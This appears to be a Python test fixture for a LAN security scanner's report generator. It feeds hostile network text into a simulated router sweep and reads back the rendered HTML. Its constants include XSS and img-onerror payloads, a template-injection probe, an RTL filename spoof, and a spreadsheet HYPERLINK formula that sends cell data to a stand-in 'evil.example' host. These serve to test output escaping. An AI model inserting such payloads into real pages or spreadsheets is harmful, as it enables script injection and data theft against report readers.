"""A sweep built by hand whose network text is hostile, and a page reader, for the agency
report's unit tests.

No network and no root: a router whose hostname, page title and SNMP description carry the
kind of text an attacker can put on the LAN, with findings of every status.
"""

from __future__ import annotations

from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

from factories import timed_out
from report_samples import StoredAgency, lan_sweep

from secposture.config.loading import parse_config
from secposture.config.sections import AgencyConfig
from secposture.model.records import (
    Attempt,
    AttemptStatus,
    Finding,
    Host,
    Observation,
    Service,
    Severity,
    Status,
    SweepResult,
    Target,
)
from secposture.report.outputs import ReportPaths, write_outputs
from secposture.report.outputs.html import render_html
from secposture.scoring.score import score_findings

XSS = "<script>alert('xss')</script> Router admin"
IMG = '"><img src=x onerror=alert(1)>'
SSTI = "{{7*7}}"
PWNED = '<p id="pwned">pwned</p><script>document.title="PWNED"</script>'
RTL = "invoice\u202egpj.exe"
LONG = "A" * 5000
BROKEN = "bad\udcff\ud800utf8"  # invalid UTF-8 read with surrogateescape, and a lone surrogate
HOSTILE_TITLE = f"{XSS} {IMG} {SSTI} {PWNED}"
HOSTNAME = f"{XSS}{IMG}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
STARTED = datetime(2026, 11, 27, 19, 0, tzinfo=UTC)  # 02:00 on 28/11 in Vietnam


# --- sample sweep ----------------------------------------------------


def agency_config(tmp_path: Path, lang: str = "vi") -> AgencyConfig:
    return parse_config(
        {
            "agency": {
                "id": "hb-xa-hoa-binh",
                "name": "UBND xã Hòa Bình",
                "level": "commune",
                "parent": "hb-tinh",
            },
            "scan": {"scopes": ["192.168.1.0/24"]},
            "store": {"path": str(tmp_path / "store.json")},
            "report": {"dir": str(tmp_path / "out"), "lang": lang},
        }
    )


def hostile_sweep(*, complete: bool = False) -> SweepResult:
    router = Host(
        ip="192.168.1.1",
        mac="aa:bb:cc:00:00:01",
        vendor="MikroTik",
        hostname=HOSTNAME,
        services=(
            Service(port=161, proto="udp", name="snmp"),
            Service(port=80, name="http", product="lighttpd", version="1.4.59"),
            Service(port=23, name="telnet", product=RTL),
        ),
        ports_scanned=True,
        udp_scanned=(161,),
    )
    hosts = (
        Host(ip="192.168.1.100", hostname=LONG, ports_scanned=True),
        router,
        Host(
            ip="192.168.1.20",
            hostname=BROKEN,
            ports_scanned=True,
            services=(Service(port=22, name="ssh", product="OpenSSH", version="9.2p1"),),
        ),
        Host(ip="192.168.1.5", mac="aa:bb:cc:00:00:05"),
    )
    observations = (
        Observation(
            kind="http.title", ip="192.168.1.1", port=80, proto="tcp", data={"title": HOSTILE_TITLE}
        ),
        Observation(
            kind="snmp.community",
            ip="192.168.1.1",
            port=161,
            proto="udp",
            data={"community": "public", "accepted": True, "sysdescr": PWNED},
        ),
    )
    attempts = (
        Attempt(stage="discovery", target="192.168.1.0/24", status=AttemptStatus.COMPLETED),
        timed_out("portscan", "192.168.1.5"),
    )
    return lan_sweep(
        "sw-20261128-0200", STARTED, hosts, observations, attempts, minutes=42, complete=complete
    )


def finding(
    check: str,
    status: Status,
    severity: Severity = Severity.HIGH,
    ip: str = "192.168.1.1",
    port: int | None = None,
    proto: str | None = None,
    **extra: str,
) -> Finding:
    """One finding of ``check`` on ``ip`` (``port``/``proto``), with evidence or reason."""
    return Finding(
        check_id=check,
        status=status,
        severity=severity,
        target=Target(ip=ip, port=port, proto=proto),
        **extra,
    )


def hostile_findings() -> list[Finding]:
    return [
        finding(
            "net.telnet_exposed",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.1",
            23,
            "tcp",
            evidence=f"telnet open on 23/tcp ({RTL})",
        ),
        finding(
            "net.http_admin_cleartext",
            Status.FAIL,
            Severity.MEDIUM,
            "192.168.1.1",
            80,
            "tcp",
            evidence=f"management page over cleartext HTTP, title: {HOSTILE_TITLE}",
        ),
        finding(
            "net.snmp_default_community",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.1",
            161,
            "udp",
            evidence=FORMULA,
        ),
        finding(
            "net.ftp_anonymous",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.100",
            21,
            "tcp",
            evidence=f"anonymous login allowed, listing: {LONG}",
        ),
        finding(
            "net.telnet_exposed",
            Status.PASS,
            Severity.HIGH,
            "192.168.1.20",
            evidence="no telnet service among open TCP ports",
        ),
        finding(
            "net.snmp_default_community",
            Status.PASS,
            Severity.HIGH,
            "192.168.1.100",
            161,
            "udp",
            evidence=f"no answer to default communities {LONG}",
        ),
        finding(
            "net.telnet_exposed",
            Status.NOT_ASSESSED,
            Severity.HIGH,
            "192.168.1.5",
            reason="port scan of this host did not complete",
        ),
        finding(
            "net.ftp_anonymous",
            Status.NOT_APPLICABLE,
            Severity.HIGH,
            "192.168.1.20",
            reason="no FTP service",
        ),
        finding(
            "net.telnet_exposed",
            Status.WAIVED,
            Severity.HIGH,
            "192.168.1.100",
            waiver="Công văn 12/UBND: thiết bị cũ, thay thế trong quý 1",
        ),
    ]


# --- reading a page back -------------------------------------------------------------------


BLOCKS = frozenset(
    ("p", "div", "li", "td", "th", "tr", "dt", "dd", "br", "h1", "h2", "h3", "h4", "section", "nav")
)


VOID = frozenset(("br", "col", "hr", "img", "input", "link", "meta", "source", "wbr"))


class Page(HTMLParser):
    """Tags, attributes and visible text of a page, the text of each <section id=…>, of each
    element by class and of each table row's cells by section: where a value stands, not only
    that it is somewhere on the page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.sections: dict[str, list[str]] = {}
        self.classed: dict[str, list[str]] = {}
        self.rows: dict[str, list[list[str]]] = {}
        self._section: str | None = None
        self._in_style = False
        self._open: list[tuple[str, list[str], int]] = []
        self._row: list[str] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in BLOCKS:
            self.handle_data(" ")  # as a reader sees it: cells and lines stay apart
        if tag == "section":
            self._section = dict(attrs).get("id")
            self.sections[self._section or ""] = []
        if tag == "tr":
            self._row = []
        if tag not in VOID:
            classes = (dict(attrs).get("class") or "").split()
            self._open.append((tag, classes, len(self.chunks)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        while self._open:
            opened, classes, start = self._open.pop()
            text = " ".join("".join(self.chunks[start:]).split())
            for name in classes:
                self.classed.setdefault(name, []).append(text)
            if opened in ("td", "th") and self._row is not None:
                self._row.append(text)
            if opened == "tr" and self._row is not None:
                self.rows.setdefault(self._section or "", []).append(self._row)
                self._row = None
            if opened == tag:
                break
        if tag == "section":
            self._section = None
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            return
        self.chunks.append(data)
        if self._section is not None:
            self.sections[self._section].append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.chunks).split())

    def section(self, section_id: str) -> str:
        return " ".join("".join(self.sections[section_id]).split())


def hostile_page(
    tmp_path: Path, lang: str = "vi", *, complete: bool = False, generated: datetime | None = None
) -> Page:
    """The hostile sweep's report page, read back."""
    findings = hostile_findings()
    sweep = hostile_sweep(complete=complete)
    config = agency_config(tmp_path)
    score = score_findings(findings)
    return Page(render_html(sweep, findings, score, config, lang, generated=generated))


def write_hostile(tmp_path: Path) -> ReportPaths:
    """The hostile sweep's four report files, written under ``tmp_path / "out"``."""
    sweep, findings = hostile_sweep(), hostile_findings()
    return write_outputs(
        sweep, findings, score_findings(findings), agency_config(tmp_path), tmp_path / "out"
    )


def page_of(agency: StoredAgency, lang: str = "vi") -> Page:
    """A stored agency's report page (with its context), read back."""
    result = agency.assessment
    return Page(
        render_html(
            agency.sweep,
            result.findings,
            result.score,
            agency.config,
            lang,
            context=agency.context,
        )
    )
